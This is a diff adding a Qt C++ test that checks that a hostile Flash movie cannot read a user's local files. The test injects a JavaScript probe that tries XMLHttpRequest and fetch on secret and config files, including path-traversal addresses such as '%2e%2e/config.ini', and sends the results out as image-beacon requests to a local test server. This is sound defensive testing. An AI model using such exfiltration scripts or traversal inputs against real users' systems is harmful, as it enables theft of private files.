@@ -1,0 +1,146 @@
+// A hostile movie cannot read the user's files. Played as a downloaded game
+// (the local player, served by the program's door) and from the portal's
+// player page, it loads a local file with the runtime's own loader, and the
+// page it runs in tries XMLHttpRequest and fetch on local files and on files
+// the door does not serve; a test server receives whatever they got. The
+// movie's harmless requests arrive, so it did run; the secret never does.
+#include "lists/gamelist.h"
+#include "portal/gameboxfixture.h"
+
+#include <QDir>
+#include <QProcess>
+#include <QRandomGenerator>
+#include <QtTest>
+
+#include "support/httpfixture.h"
+
+class HostileMovieTest : public QObject
+{
+    Q_OBJECT
+
+    GameBox box;
+    HttpFixture server;
+    QTemporaryDir m_dir;
+    QString m_token;
+    QString m_secretFile;
+    QByteArray m_movie;
+
+    bool leaked() const
+    {
+        for (const QString &r : server.requests()) {
+            if (r.contains(m_token) || r.startsWith(QLatin1String("/leak")))
+                return true;
+        }
+        return false;
+    }
+
+    bool received(const QString &prefix, int timeout = 60000)
+    {
+        return QTest::qWaitFor([&] {
+            const QStringList seen = server.requests();
+            return std::any_of(seen.begin(), seen.end(), [&](const QString &r) { return r.startsWith(prefix); });
+        }, timeout);
+    }
+
+    // What the page the movie runs in could do with script: read local
+    // files and files the door does not serve, then report them.
+    void pageTriesToRead(WebPane *pane, const QStringList &addresses)
+    {
+        QString list;
+        for (const QString &a : addresses)
+            list += QLatin1Char('\'') + a + QStringLiteral("',");
+        GameBox::js(pane, QStringLiteral(
+            "(function(){var r='%1page?';function send(k,v){var i=new Image();i.src=r+k+'='+"
+            "encodeURIComponent(String(v).slice(0,300));}"
+            "[%2].forEach(function(u,n){"
+            "try{var x=new XMLHttpRequest();x.open('GET',u);x.onload=function(){send('xhr'+n,x.responseText)};"
+            "x.onerror=function(){send('xhr'+n,'error')};x.send();}catch(e){send('xhr'+n,'thrown')}"
+            "try{fetch(u).then(function(a){return a.text()}).then(function(t){send('fetch'+n,t)},"
+            "function(){send('fetch'+n,'error')})}catch(e){send('fetch'+n,'thrown')}});})()")
+                                    .arg(server.baseUrl(), list));
+        for (int n = 0; n < addresses.size(); ++n) {
+            QVERIFY2(received(QStringLiteral("/page?xhr%1=").arg(n), 20000), qPrintable(addresses[n]));
+            QVERIFY2(received(QStringLiteral("/page?fetch%1=").arg(n), 20000), qPrintable(addresses[n]));
+        }
+    }
+
+private Q_SLOTS:
+    void initTestCase()
+    {
+        QVERIFY(m_dir.isValid());
+        m_token = QStringLiteral("KAVOSECRET%1").arg(QRandomGenerator::global()->generate64());
+        m_secretFile = m_dir.filePath(QStringLiteral("secret.txt"));
+        QFile secret(m_secretFile);
+        QVERIFY(secret.open(QIODevice::WriteOnly));
+        secret.write("secret=" + m_token.toLatin1());
+        secret.close();
+        QVERIFY(server.start());
+
+        const QString movie = m_dir.filePath(QStringLiteral("probe.swf"));
+        QProcess gen;
+        gen.start(QStringLiteral(KAVO_SWFGEN_BIN), {QStringLiteral("--probe"), server.baseUrl(),
+                                                      QUrl::fromLocalFile(m_secretFile).toString(), movie});
+        QVERIFY(gen.waitForFinished(30000) && gen.exitCode() == 0);
+        QFile built(movie);
+        QVERIFY(built.open(QIODevice::ReadOnly));
+        m_movie = built.readAll();
+        server.setPage(QStringLiteral("/probe.swf"), m_movie, 200, "application/x-shockwave-flash");
+
+        QVERIFY(box.start());
+        // The movie as a downloaded game, with the installed local player; the
+        // settings file holds the secret too.
+        const QString appData = QStringLiteral(KAVO_APP_DIR) + QStringLiteral("/app/");
+        QFile::remove(box.paths.dataFile(QStringLiteral("flash.htm")));
+        QVERIFY(QFile::copy(appData + QStringLiteral("flash.htm"), box.paths.dataFile(QStringLiteral("flash.htm"))));
+        QVERIFY(QFile::link(appData + QStringLiteral("ruffle"), box.paths.dataFile(QStringLiteral("ruffle"))));
+        QVERIFY(QDir().mkpath(box.paths.flashDir()));
+        QVERIFY(QFile::copy(movie, box.paths.flashFile(QStringLiteral("900"))));
+        QVERIFY(QFile::link(m_secretFile, box.paths.flashFile(QStringLiteral("901"))));
+        QFile config(box.paths.configPath());
+        QVERIFY(config.open(QIODevice::Append));
+        config.write("secret=" + m_token.toLatin1() + "\r\n");
+        config.close();
+        QVERIFY(AddGameRecord(box.paths, QStringLiteral("probe"), QStringLiteral("900"), QStringLiteral("900"), 1,
+                              QStringLiteral("date_d.dat")));
+    }
+
+    void downloadedMovieReadsNothingLocal()
+    {
+        BA1 &w = *box.w;
+        server.clearRequests();
+        w.npc_Click(8);
+        w.lc_Click(2);
+        QTRY_VERIFY(GameBox::js(w.Web3, QStringLiteral("!!document.querySelector('a[href^=\"open://\"]')")).toBool());
+        GameBox::clickElement(w.Web3, QStringLiteral("a[href^=\"open://\"]"));
+        QTRY_COMPARE(w.Web2->locationUrl(), box.paths.dataDir() + QStringLiteral("/flash.htm?900"));
+        QCOMPARE(w.Web2->page()->url().scheme(), QStringLiteral("kavo"));
+
+        QVERIFY2(received(QStringLiteral("/hello")), "the movie never ran");
+        QVERIFY2(received(QStringLiteral("/done")), "the movie never finished");
+        pageTriesToRead(w.Web2, {QUrl::fromLocalFile(m_secretFile).toString(), QStringLiteral("kavo://app/config.ini"),
+                                 QStringLiteral("../config.ini"), QStringLiteral("../flash/901.swf"),
+                                 QStringLiteral("%2e%2e/config.ini")});
+        QVERIFY2(!leaked(), qPrintable(server.requests().join(QLatin1Char('\n'))));
+    }
+
+    void portalMovieReadsNothingLocal()
+    {
+        BA1 &w = *box.w;
+        server.clearRequests();
+        w.Web1->Navigate(QStringLiteral("tuzoflash://902$$$%1probe.swf$$$probe").arg(server.baseUrl()));
+        QTRY_COMPARE(w.Web2->locationUrl(), box.base() + QStringLiteral("flash.htm?") + server.baseUrl()
+                                                + QStringLiteral("probe.swf"));
+        QVERIFY2(received(QStringLiteral("/hello")), "the movie never ran");
+        QVERIFY2(received(QStringLiteral("/done")), "the movie never finished");
+        pageTriesToRead(w.Web2, {QUrl::fromLocalFile(m_secretFile).toString(),
+                                 QUrl::fromLocalFile(box.paths.configPath()).toString(),
+                                 QStringLiteral("kavo://app/config.ini"), QStringLiteral("kavo://app/app/n.htm")});
+        QVERIFY2(!leaked(), qPrintable(server.requests().join(QLatin1Char('\n'))));
+        // Nor the list of games played.
+        for (const QString &r : server.requests())
+            QVERIFY2(!r.contains(QStringLiteral("open%3A%2F%2F")), qPrintable(r));
+    }
+};
+
+QTEST_MAIN(HostileMovieTest)
+#include "tst_ui_hostilemovie.moc"
